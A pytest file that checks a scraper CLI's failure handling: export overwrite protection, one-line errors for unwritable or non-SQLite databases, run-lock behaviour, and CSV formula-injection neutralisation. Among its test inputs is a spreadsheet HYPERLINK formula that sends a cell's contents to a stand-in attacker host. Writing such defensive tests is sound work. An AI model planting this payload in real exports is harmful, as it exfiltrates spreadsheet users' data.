"""The command line's failure paths: one-line errors, no traceback, nothing destroyed.

`export -o` validates before it writes and never writes over the database; CSV cells that
a spreadsheet would run as a formula are neutralised; every command that writes takes the
run lock; a read-only or foreign database file is one line on stderr, not a traceback.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest
from click.testing import CliRunner, Result

from scraper import store
from scraper.cli import cli
from scraper.lock import RunLock
from scraper.model import Article, Link, Post
from scraper.store.urls import save_urls

REPO = Path(__file__).resolve().parents[1]
SAMPLE = REPO / "data" / "articles"
FORMULA_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def invoke(*args: str, stdin: str | None = None) -> Result:
    """Run the CLI in-process with exceptions caught, as a user would see them."""
    return CliRunner().invoke(cli, list(args), input=stdin)


def assert_one_line_error(result: Result, code: int, *words: str) -> None:
    """Exit ``code``; stderr is one line naming ``words``; no traceback anywhere."""
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == code, (result.exit_code, result.stderr)
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    for word in words:
        assert word in lines[0], lines[0]


def build_db(path: Path, text: str = "plain text") -> Path:
    """A database with one article citing one post whose text is ``text``."""
    db = store.open_database(path)
    article = Article(
        source="a.html",
        url="https://news.example/a",
        title="A",
        posts=[Post(platform="twitter", kind="blockquote", post_id="1", handle="h", text=text)],
        links=[Link("https://t.co/x", "t.co/x", "post", 0, 0)],
    )
    store.save_article(db, article, source="a.html", fetched_at="2024-01-01T00:00:00+00:00")
    db.close()
    return path


@contextmanager
def read_only(path: Path) -> Iterator[None]:
    """Make ``path`` (a file or directory) unwritable, even for root (chattr +i)."""
    mode = path.stat().st_mode
    path.chmod(0o555 if path.is_dir() else 0o444)
    immutable = False
    if os.geteuid() == 0 and shutil.which("chattr"):  # root ignores file modes
        immutable = subprocess.run(["chattr", "+i", str(path)], capture_output=True).returncode == 0
    try:
        probe = path / ".probe" if path.is_dir() else path
        try:
            with probe.open("ab"):
                pass
        except OSError:
            pass
        else:
            probe.unlink(missing_ok=path.is_dir())
            pytest.skip("this user can write any file and chattr is not available here")
        yield
    finally:
        if immutable:
            subprocess.run(["chattr", "-i", str(path)], check=True)
        path.chmod(mode)


# ------------------------------------------------------------------------ export -o


def output_names(directory: Path) -> list[str]:
    """The files in ``directory`` other than the database and its -wal, -shm and lock."""
    return sorted(p.name for p in directory.iterdir() if not p.name.startswith("c.db"))


def test_export_refuses_to_write_over_the_database(tmp_path: Path) -> None:
    """`-o` naming the database (or its -wal/-shm, or another path to it) leaves it whole."""
    db = build_db(tmp_path / "c.db")
    before = db.read_bytes()
    (tmp_path / "link.db").symlink_to(db)
    (tmp_path / "hard.db").hardlink_to(db)
    for target in (
        db,
        tmp_path / "link.db",
        tmp_path / "hard.db",
        tmp_path / "sub" / ".." / "c.db",
    ):
        result = invoke("export", "--db", str(db), "-o", str(target))
        assert_one_line_error(result, 2, "database")
    result = invoke("export", "--db", str(db), "-o", f"{db}-wal")
    assert_one_line_error(result, 2, "database")
    assert db.read_bytes() == before
    assert sqlite3.connect(db).execute("select count(*) from articles").fetchone() == (1,)


def test_export_of_an_unknown_table_keeps_the_output_file(tmp_path: Path) -> None:
    """An unknown table is refused before the existing output file is touched."""
    db = build_db(tmp_path / "c.db")
    out = tmp_path / "out.csv"
    out.write_text("yesterday's export\n", encoding="utf-8")
    result = invoke("export", "no_such_table", "--db", str(db), "-o", str(out))
    assert_one_line_error(result, 2, "no_such_table")
    assert out.read_text(encoding="utf-8") == "yesterday's export\n"
    assert output_names(tmp_path) == ["out.csv"]


def test_export_replaces_the_output_file_whole(tmp_path: Path) -> None:
    """A good export replaces the file (written beside it, then renamed), leaving no temp file."""
    db = build_db(tmp_path / "c.db")
    out = tmp_path / "out.jsonl"
    out.write_text("old\n", encoding="utf-8")
    result = invoke("export", "posts", "--db", str(db), "--format", "jsonl", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    assert [json.loads(line)["id"] for line in out.read_text().splitlines()] == ["twitter:1"]
    assert output_names(tmp_path) == ["out.jsonl"]


def test_export_into_a_missing_directory_is_one_line(tmp_path: Path) -> None:
    """`-o` into a directory that does not exist (or is a file) is one line, exit 2."""
    db = build_db(tmp_path / "c.db")
    result = invoke("export", "--db", str(db), "-o", str(tmp_path / "nope" / "out.csv"))
    assert_one_line_error(result, 2, "nope")
    (tmp_path / "file").write_text("x")
    result = invoke("export", "--db", str(db), "-o", str(tmp_path / "file" / "out.csv"))
    assert_one_line_error(result, 2, "file")


def test_export_into_an_unwritable_directory_is_one_line(tmp_path: Path) -> None:
    """`-o` into a directory the user cannot write is one line, exit 2, nothing left."""
    db = build_db(tmp_path / "c.db")
    locked = tmp_path / "locked"
    locked.mkdir()
    with read_only(locked):
        result = invoke("export", "--db", str(db), "-o", str(locked / "out.csv"))
        assert_one_line_error(result, 2, "locked")
    assert list(locked.iterdir()) == []


# ------------------------------------------------------------------- CSV injection


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", FORMULA_TEXT])
def test_csv_cells_that_spreadsheets_would_run_are_neutralised(tmp_path: Path, text: str) -> None:
    """CSV prefixes a quote to cells starting with = + - @ tab CR; JSON Lines stays exact."""
    db = build_db(tmp_path / "c.db", text=text)
    result = invoke("export", "posts", "--db", str(db))
    assert result.exit_code == 0, result.stderr
    (row,) = csv.DictReader(io.StringIO(result.stdout))
    assert row["text"] == "'" + text
    result = invoke("export", "posts", "--db", str(db), "--format", "jsonl")
    assert json.loads(result.stdout)["text"] == text


def test_csv_leaves_numbers_and_ordinary_text_alone(tmp_path: Path) -> None:
    """Only text cells are touched: numbers (even negative) and plain text are exact."""
    db = build_db(tmp_path / "c.db", text="a - b = c")
    conn = sqlite3.connect(db)
    conn.execute("update posts set date_mismatch = -1")
    conn.commit()
    conn.close()
    result = invoke("export", "posts", "--db", str(db))
    (row,) = csv.DictReader(io.StringIO(result.stdout))
    assert (row["text"], row["date_mismatch"]) == ("a - b = c", "-1")


def test_export_help_says_what_csv_does_to_formulas() -> None:
    """`export --help` says that CSV neutralises formulas and JSON Lines is exact."""
    result = invoke("export", "--help")
    assert "formula" in result.stdout
    assert "JSON Lines" in result.stdout


# --------------------------------------------------------------------- foreign files


@pytest.mark.parametrize("command", ["stats", "export", "resolve", "run"])
def test_a_file_that_is_not_sqlite_is_one_line(tmp_path: Path, command: str) -> None:
    """`--db` naming a text file: one line, exit 1, and the file is left as it was."""
    foreign = tmp_path / "notes.txt"
    foreign.write_text("not a database\n" * 200, encoding="utf-8")
    extra = [str(SAMPLE), "--no-resolve", "--no-progress"] if command == "run" else []
    result = invoke(command, "--db", str(foreign), *extra)
    assert_one_line_error(result, 1, "notes.txt")
    assert foreign.read_text(encoding="utf-8") == "not a database\n" * 200


# ---------------------------------------------------------------------- read-only


class CountingHandler(BaseHTTPRequestHandler):
    """Answers 200 to everything and remembers the paths asked for."""

    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:  # quiet test output
        pass


@pytest.fixture
def server() -> Iterator[str]:
    """A loopback HTTP server that counts requests; yields its base URL."""
    CountingHandler.seen = []
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), CountingHandler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}"
    finally:
        httpd.shutdown()
        httpd.server_close()


def loopback_config(tmp_path: Path, db: Path) -> Path:
    """A config that lets the resolver reach the loopback server."""
    config = tmp_path / "config.toml"
    config.write_text(
        f'[database]\npath = "{db}"\n[sources]\npaths = []\n'
        '[resolver]\nallow_private = true\nresolve = "all"\n',
        encoding="utf-8",
    )
    return config


def test_run_on_a_read_only_database_is_one_line(tmp_path: Path) -> None:
    """`scraper run` on a database it cannot write: one line, exit 1."""
    db = build_db(tmp_path / "c.db")
    with read_only(db):
        result = invoke("run", str(SAMPLE), "--db", str(db), "--no-resolve", "--no-progress")
        assert_one_line_error(result, 1, "c.db")


def test_resolve_on_a_read_only_database_fails_before_the_network(
    tmp_path: Path, server: str
) -> None:
    """`scraper resolve --db` on a read-only database: one line, exit 1, no request sent."""
    db = tmp_path / "c.db"
    conn = store.open_database(db)
    save_urls(conn, [f"{server}/s/1"], seen_at="2024-01-01T00:00:00+00:00", resolve_all=True)
    conn.conn.commit()
    conn.close()
    config = loopback_config(tmp_path, db)
    with read_only(db):
        result = invoke("resolve", "--config", str(config))
        assert_one_line_error(result, 1, "c.db")
    assert CountingHandler.seen == []


# --------------------------------------------------------------------------- the lock


def test_resolve_into_the_database_takes_the_run_lock(tmp_path: Path, server: str) -> None:
    """`scraper resolve --db` while a run holds the lock: exit 75 at once, nothing fetched."""
    db = tmp_path / "c.db"
    conn = store.open_database(db)
    save_urls(conn, [f"{server}/s/1"], seen_at="2024-01-01T00:00:00+00:00", resolve_all=True)
    conn.conn.commit()
    conn.close()
    config = loopback_config(tmp_path, db)
    with RunLock(db):
        result = invoke("resolve", "--config", str(config))
        assert_one_line_error(result, 75, "another scraper run")
    assert CountingHandler.seen == []
    result = invoke("resolve", "--config", str(config))
    assert result.exit_code == 0, result.stderr
    assert CountingHandler.seen == ["/s/1"]


def test_resolving_given_urls_needs_no_lock(tmp_path: Path, server: str) -> None:
    """`scraper resolve URL` writes no database, so a held lock does not stop it."""
    db = tmp_path / "c.db"
    config = loopback_config(tmp_path, db)
    with RunLock(db):
        result = invoke("resolve", "--config", str(config), f"{server}/s/2")
    assert result.exit_code == 0, result.stderr
    assert json.loads(result.stdout)["status"] == "resolved"
